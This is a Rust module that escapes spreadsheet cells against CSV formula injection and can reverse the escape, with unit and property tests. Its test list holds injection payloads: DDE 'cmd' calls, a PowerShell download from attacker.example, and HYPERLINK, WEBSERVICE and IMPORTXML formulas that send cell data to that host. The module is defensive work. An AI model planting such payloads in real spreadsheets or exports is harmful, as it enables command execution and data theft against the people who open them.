//! Cells that no spreadsheet runs as a formula, in a way that can be undone.
//!
//! A cell that a spreadsheet might take for a formula gets an apostrophe in front, as OWASP advises against CSV
//! injection; so does one that begins with an apostrophe already. Taking one apostrophe away gives back the original.
//! A plain number keeps its sign and stays a number.

use std::borrow::Cow;

/// `text` as it stands in a cell.
pub fn escape(text: &str) -> Cow<'_, str> {
    if text.starts_with('\'') || (looks_like_formula(text) && !is_plain_number(text)) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// `id` as it stands in a cell that Excel opens: with an apostrophe also where Excel would show a number, a date, a time or
/// a truth value in its place, as for `0012`, `1E5`, `3-4` and `MAR1`.
pub fn escape_id(id: &str) -> Cow<'_, str> {
    if is_other_value(id) { Cow::Owned(format!("'{id}")) } else { escape(id) }
}

/// The text of a cell, as it was before [`escape`] or [`escape_id`].
pub fn unescape(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// Whether the first character that a spreadsheet would look at starts a formula, or splits the cell.
fn looks_like_formula(text: &str) -> bool {
    for c in text.chars() {
        match c {
            '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠' | '\t' | '\r' | '\n' => return true,
            c if !is_passed_over(c) => return false,
            _ => {}
        }
    }
    false
}

/// White space, and characters that have no width: a spreadsheet may take them away on reading.
fn is_passed_over(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
}

/// Digits with a sign and perhaps a decimal point: `-12.5`.
fn is_plain_number(text: &str) -> bool {
    let unsigned = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (whole, fraction) = unsigned.split_once('.').unwrap_or((unsigned, "0"));
    [whole, fraction].iter().all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit()))
}

/// The words that numbers, dates, times and truth values hold.
const WORDS_IN_VALUES: [&str; 31] = [
    "e",
    "a",
    "p",
    "am",
    "pm",
    "true",
    "false",
    "jan",
    "january",
    "feb",
    "february",
    "mar",
    "march",
    "apr",
    "april",
    "may",
    "jun",
    "june",
    "jul",
    "july",
    "aug",
    "august",
    "sep",
    "sept",
    "september",
    "oct",
    "october",
    "nov",
    "november",
    "dec",
    "december",
];

/// Whether `text` is made of nothing but what numbers, dates, times and truth values are made of.
fn is_other_value(text: &str) -> bool {
    let is_mark = |c: char| c.is_ascii_digit() || c.is_whitespace() || "+-.,:/%$€£()".contains(c);
    let mut words = text.split(is_mark).filter(|word| !word.is_empty());
    !text.is_empty() && words.all(|word| WORDS_IN_VALUES.contains(&&*word.to_lowercase()))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    /// What attackers and accidents put into cells.
    const PAYLOADS: [&str; 40] = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
        "=HYPERLINK(\"http://attacker.example?x=\"&A1,\"click\")",
        "=WEBSERVICE(\"http://attacker.example/\"&A1)",
        "=IMPORTXML(CONCAT(\"http://attacker.example/\",A1),\"//a\")",
        "=IMPORTDATA(\"http://attacker.example\")",
        "=IMAGE(\"http://attacker.example/x.png\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=1+1\";=1+1",
        "='file:///etc/passwd'#$passwd.A1",
        "=-1",
        "=",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "+SUM(A1:A9)",
        "+",
        "-1+1",
        "-cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!D2",
        "-1.2.3",
        "--1",
        "-1e5",
        "-",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@A1",
        "@",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\r\n@SUM(A1)",
        "\tplain",
        " =1+1",
        "\u{a0}=1+1",
        "\u{feff}=1+1",
        "\u{200b}=1+1",
        "\0=1+1",
        "＝1+1",
        "＋1+1",
        "　＠SUM(A1)",
    ];

    #[test]
    fn every_payload_becomes_text_and_back() {
        for payload in PAYLOADS {
            let cell = escape(payload);
            assert!(cell.starts_with('\''), "{payload:?}");
            assert_eq!(unescape(&cell), payload);
        }
    }

    #[test]
    fn numbers_and_ordinary_text_stay() {
        for text in ["", "-5", "-12.50", "+3", "3.4", "$1 billion", "a=b", "AT&T", "(-5)", "Nimbus - Verda", "c0ffee"] {
            assert_eq!(escape(text), text);
        }
    }

    #[test]
    fn an_id_stays_an_id_in_excel() {
        let other_values = [
            "0012",
            "12345678901234567890",
            "1E5",
            "3-4",
            "1/2",
            "2026-03-04",
            "MAR1",
            "Sept-2",
            "4 July 2025",
            "10:30 PM",
            "-5",
            "50%",
            "true",
        ];
        for id in other_values {
            assert_eq!(escape_id(id), format!("'{id}"));
        }
        for id in ["blog/cloud.md", "a.jsonl#12", "c1f34a2f67f80", "doc-7", "2026-03-04.txt", "SEPTIN2", "June Lake"] {
            assert_eq!(escape_id(id), id);
        }
        for id in ["'12", "=1+1", "-1-2", "＝1"] {
            assert_eq!(unescape(&escape_id(id)), id);
        }
    }

    proptest! {
        #[test]
        fn escaping_can_be_undone(text in any::<String>(), front in "['=+@\\-\t\r\n ]{0,3}") {
            let text = front + &text;
            let cell = escape(&text);
            prop_assert_eq!(unescape(&cell), text.as_str());
        }

        #[test]
        fn no_cell_starts_a_formula(text in "[ \t'=+@\\-＝]{0,3}[a-z0-9.]{0,4}") {
            let cell = escape(&text);
            let cell = cell.trim_start();
            prop_assert!(!cell.starts_with(['=', '@', '＝', '+', '-']) || cell.parse::<f64>().is_ok(), "{:?}", cell);
        }
    }
}
